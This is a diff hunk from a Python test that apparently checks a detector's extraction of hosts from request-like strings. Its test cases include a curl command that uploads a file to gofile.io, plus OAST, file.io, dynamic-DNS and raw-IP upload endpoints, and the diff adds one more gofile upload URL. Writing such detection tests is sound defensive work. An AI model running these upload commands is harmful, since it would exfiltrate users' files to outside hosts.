@@ -171,6 +171,7 @@ def test_words_of_a_web_request_reach_a_shell() -> None:
         ("curl -F file=@x 'https://store1.gofile.io/uploadFile' -s", "store1.gofile.io"),
         ("? abc.oast.fun 443", "abc.oast.fun"),
         ("file.io", "file.io"),
+        ("https://{requests.get().json()[data][server]}.gofile.io/uploadFile", "{}.gofile.io"),
         ("http://203.0.113.7:8080/up", "203.0.113.7"),
         ("https://somebody.ddns.net/", "somebody.ddns.net"),
         ("http://127.0.0.1:8000/", ""),
